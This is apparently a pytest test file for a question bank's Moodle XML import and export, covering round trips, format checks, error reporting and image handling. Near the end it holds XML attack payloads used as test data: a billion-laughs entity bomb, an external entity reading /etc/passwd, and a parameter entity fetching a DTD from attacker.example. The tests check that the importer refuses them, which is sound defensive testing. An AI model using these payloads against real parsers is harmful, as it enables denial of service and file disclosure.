"""Moodle XML import and export: round trips, the documented format, hand-written
files, located problems, embedded images and XML attacks."""
import base64
import io
import xml.etree.ElementTree as ET
from pathlib import Path

import pytest
from flask_babel import force_locale
from PIL import Image
from transfer_helpers import ML, SIGN, bank_size, empty_bank, multichoice, question_by_code, quiz, rejection, save

from helpers import question_data
from question_bank.images import STATIC_IMAGES, store_upload, upload_folder
from question_bank.models import (
    ACTIVE,
    RETIRED,
)
from question_bank.transfer import (
    ImportReport,
    export_bank,
    import_bank,
    parse_import,
)
from question_bank.transfer.plan import build_plan

FILES = Path(__file__).parent / "files"


# --------------------------------------------------------------------------- Moodle XML


def test_moodle_round_trip(sample_bank):
    before = export_bank("json")
    exported = export_bank("moodle")
    empty_bank()
    assert import_bank("moodle", exported, None) == ImportReport(created=4, retired=1)
    assert export_bank("json") == before


def test_moodle_export_follows_the_documented_format(sample_bank):
    quiz_element = ET.fromstring(export_bank("moodle"))
    assert quiz_element.tag == "quiz"
    categories = [q.findtext("category/text") for q in quiz_element.findall("question[@type='category']")]
    assert categories == ["$course$/top/SIM/signs", "$course$/top/SIM/ethics", "$course$/top/SIM/first_aid"]
    questions = {q.findtext("name/text"): q for q in quiz_element.findall("question[@type='multichoice']")}
    image = questions["SGN-701"]

    text = image.find("questiontext")
    assert text.get("format") == "html"
    assert '<img src="@@PLUGINFILE@@/larangan-masuk.svg"' in text.findtext("text")
    assert ML.format("Pertanyaan SGN-701?", "Question SGN-701?") in text.findtext("text")
    file = text.find("file")
    assert (file.get("name"), file.get("path"), file.get("encoding")) == ("larangan-masuk.svg", "/", "base64")
    assert base64.b64decode(file.text) == (STATIC_IMAGES / SIGN).read_bytes()
    assert image.find("generalfeedback").get("format") == "html"
    assert "EXPLAIN-" in image.findtext("generalfeedback/text")
    assert {tag: image.findtext(tag) for tag in ("defaultgrade", "penalty", "hidden", "idnumber", "single",
                                                 "shuffleanswers", "answernumbering")} == {
        "defaultgrade": "1", "penalty": "0", "hidden": "0", "idnumber": "SGN-701", "single": "true",
        "shuffleanswers": "true", "answernumbering": "abc"}
    answers = image.findall("answer")
    assert [a.get("fraction") for a in answers] == ["0", "0", "100", "0"]
    assert all(a.get("format") == "html" and a.find("feedback/text").text is None for a in answers)
    assert [t.text for t in image.findall("tags/tag/text")] == [
        "class:A", "class:A_UMUM", "class:C", "topic:signs", "ref:UU No. 22 Tahun 2009"]

    assert questions["ETH-701"].findtext("hidden") == "1"
    assert len(questions["AID-701"].findall("answer")) == 3
    tricky = questions["SGN-777"].findtext("questiontext/text")
    assert "&lt;b&gt;bukan tebal&lt;/b&gt; &amp; co" in tricky and "<br>" in tricky


def test_hand_written_moodle_file_imports(app_ctx, staff):
    report = import_bank("moodle", (FILES / "moodle_handwritten.xml").read_bytes(), staff.id)
    assert report == ImportReport(created=3, retired=1)

    sign = question_by_code("SGN-901")
    version = sign.current_version
    assert (sign.status, version.topic, version.class_codes, version.image, version.reference) == (
        ACTIVE, "signs", ["A", "C"], SIGN, "PM 13 Tahun 2014")
    # <strong> is formatting: the texts are kept as sanitised HTML (issue 13; they were flattened to plain text)
    assert version.text_format == "html"
    assert (version.text_id, version.text_en) == ("<p>Apa arti rambu <strong>ini</strong>?</p>",
                                                  "<p>What does <strong>this</strong> sign mean?</p>")
    assert version.options[version.correct_index] == {"id": "<p>Dilarang masuk</p>", "en": "<p>No entry</p>",
                                                      "correct": True}
    assert version.correct_index == 1 and len(version.options) == 4
    assert version.explanation_en == "A red disc with a white bar means no entry &amp; it applies to all vehicles."
    assert version.created_by_id == staff.id

    ethics = question_by_code("ETH-901")
    version = ethics.current_version
    assert (ethics.status, version.topic, version.class_codes) == (RETIRED, "ethics", ["A", "B1"])
    assert version.text_en == "The driver behind you keeps sounding the horn.\nWhat should you do?"
    assert version.explanation_id == "Tetap tenang & jangan terpancing."
    assert [o["correct"] for o in version.options] == [False, True, False]

    safe = question_by_code("SAF-901").current_version
    assert (safe.topic, safe.class_codes, safe.image) == ("safe_driving", ["C"], "scenes/zona-sekolah.svg")
    assert safe.text_en == "You approach a “school zone” at 07:00. What do you do?"


def test_moodle_file_without_translations_imports_as_translation_needed(app_ctx):
    # Issue 13: a monolingual file is no longer refused for missing English; its questions
    # come in, in their language, marked "translation needed" (never drawn for papers).
    report = import_bank("moodle", (FILES / "moodle_plain.xml").read_bytes(), None)
    assert report == ImportReport(created=2, translation_needed=2)
    version = question_by_code("REG-901").current_version
    assert version.text_id == "Berapa batas kecepatan paling tinggi di jalan tol?" and version.text_en == ""
    assert version.translation_needed is True and version.text_format == "plain"


def test_moodle_problems_are_located(app_ctx):
    with force_locale("en"):
        located_problems()


def located_problems():
    not_bundled = base64.b64encode(b"<svg xmlns='http://www.w3.org/2000/svg'/>").decode()
    data = quiz(
        '<question type="category"><category><text>$course$/top/SIM/regulations</text></category></question>',
        '<question type="essay"><name><text>Essay</text></name></question>',
        multichoice("REG-810", answers=(("50", ML.format("Ya", "Yes")), ("50", ML.format("Juga", "Also")),
                                        ("0", ML.format("Tidak", "No")))),
        multichoice("REG-811", extra="<single>false</single>"),
        multichoice("REG-812", text='<img src="@@PLUGINFILE@@/new.svg">' + ML.format("Teks?", "Text?"),
                    files=f'<file name="new.svg" path="/" encoding="base64">{not_bundled}</file>'),
        multichoice("REG-813", text='<img src="https://example.com/x.png">' + ML.format("Teks?", "Text?")),
        multichoice("REG-814", text=ML.format("Teks?", "")),
        multichoice("REG-810"),
    )
    assert rejection("moodle", data) == [
        ("<question> #2", "question type essay: an essay question needs a marker; "
                          + "the bank has single-choice questions only"),
        ("<question> #3 (REG-810)", "answer 1 has fraction '50'; only 100 (correct) and 0 are supported"),
        ("<question> #3 (REG-810)", "answer 2 has fraction '50'; only 100 (correct) and 0 are supported"),
        ("<question> #3 (REG-810)", "needs exactly one correct option"),
        ("<question> #4 (REG-811)", "allows several answers (<single>false</single>); "
                                    + "the bank has one correct option per question"),
        # New images are now stored on import, but only PNG, JPEG or WebP (issue 13).
        ("<question> #5 (REG-812)", "image new.svg: The file is not a valid PNG, JPEG or WebP image."),
        ("<question> #6 (REG-813)", "image 'https://example.com/x.png' is not a file embedded in the question "
                                    + "(@@PLUGINFILE@@)"),
        # REG-814 (no English) is no longer refused: it is imported as "translation needed".
        ("<question> #8 (REG-810)", "duplicate code REG-810 (first at <question> #3 (REG-810))"),
    ]


def png(colour: str) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (8, 8), colour).save(out, format="PNG")
    return out.getvalue()


def test_uploaded_image_round_trips_through_moodle_and_new_ones_are_stored_on_import(app_ctx):
    image = store_upload(png("red"))
    save(question_data(code="REG-815", image=image))
    before, exported = export_bank("json"), export_bank("moodle")
    empty_bank()
    assert import_bank("moodle", exported, None) == ImportReport(created=1)
    assert export_bank("json") == before

    # Issue 13: a new image is no longer refused; the plan names it and writes nothing,
    # and the import stores it (validated and re-encoded like an editor upload).
    uploads = sorted(upload_folder().iterdir())
    stored = (upload_folder() / image.split("/", 1)[1]).read_bytes()
    changed = exported.replace(base64.b64encode(stored), base64.b64encode(png("blue")))
    planned = build_plan("moodle", changed)["questions"][0]
    assert (planned["action"], planned["reasons"], planned["new_image"]["name"]) == ("update", [], image.split("/")[1])
    assert sorted(upload_folder().iterdir()) == uploads
    assert import_bank("moodle", changed, None) == ImportReport(updated=1)
    new_image = question_by_code("REG-815").current_version.image
    assert new_image != image and len(sorted(upload_folder().iterdir())) == len(uploads) + 1


def test_image_references_without_a_file_are_matched_by_name(english):
    upload = store_upload(png("green"))
    text = ML.format("Teks?", "Text?")
    named = [multichoice("REG-822", text=f'<img src="@@PLUGINFILE@@/{upload.split("/")[1]}">' + text),
             multichoice("REG-823", text='<p><img src="@@PLUGINFILE@@/larangan-masuk.svg" alt=""></p>' + text)]
    assert [q["image"] for q in parse_import("moodle", quiz(*named))] == [upload, SIGN]

    missing = multichoice("REG-824", text='<img src="@@PLUGINFILE@@/hilang.png">' + text)
    assert rejection("moodle", quiz(*named, missing)) == [(
        "<question> #3 (REG-824)", "image hilang.png is neither a bundled image (static/img) nor an image already "
                                   + "uploaded here, and the file does not contain it")]


BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>
<quiz><question type="multichoice"><name><text>&lol3;</text></name></question></quiz>"""
EXTERNAL_ENTITY = """<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE quiz [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<quiz><question type="multichoice"><name><text>&secret;</text></name></question></quiz>"""
PARAMETER_ENTITY = """<?xml version="1.0"?>
<!doctype quiz [<!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd"> %remote;]><quiz/>"""


@pytest.mark.parametrize(("payload", "line"), [
    (BILLION_LAUGHS.encode(), "line 2"),
    (EXTERNAL_ENTITY.encode(), "line 2"),
    (PARAMETER_ENTITY.encode(), "line 2"),
    (b"\xef\xbb\xbf" + EXTERNAL_ENTITY.encode(), "line 2"),
    (b'<quiz><!ENTITY x "y"></quiz>', "line 1"),
])
def test_xml_declarations_are_refused(english, payload, line):
    assert rejection("moodle", payload) == [(line, "DOCTYPE and ENTITY declarations are not allowed")]
    assert bank_size() == (0, 0)


def test_xml_in_another_encoding_is_refused(english):
    payload = EXTERNAL_ENTITY.replace("UTF-8", "UTF-16").encode("utf-16")
    assert rejection("moodle", payload) == [("line 1", "The file is not UTF-8 text.")]


def test_malformed_xml_is_located(english):
    assert rejection("moodle", b"<quiz>\n<question>\n</quiz>") == [("line 3", "not well-formed XML (column 3)")]
    assert rejection("moodle", b"<questions/>") == [("file", "the root element must be <quiz>, not <questions>")]


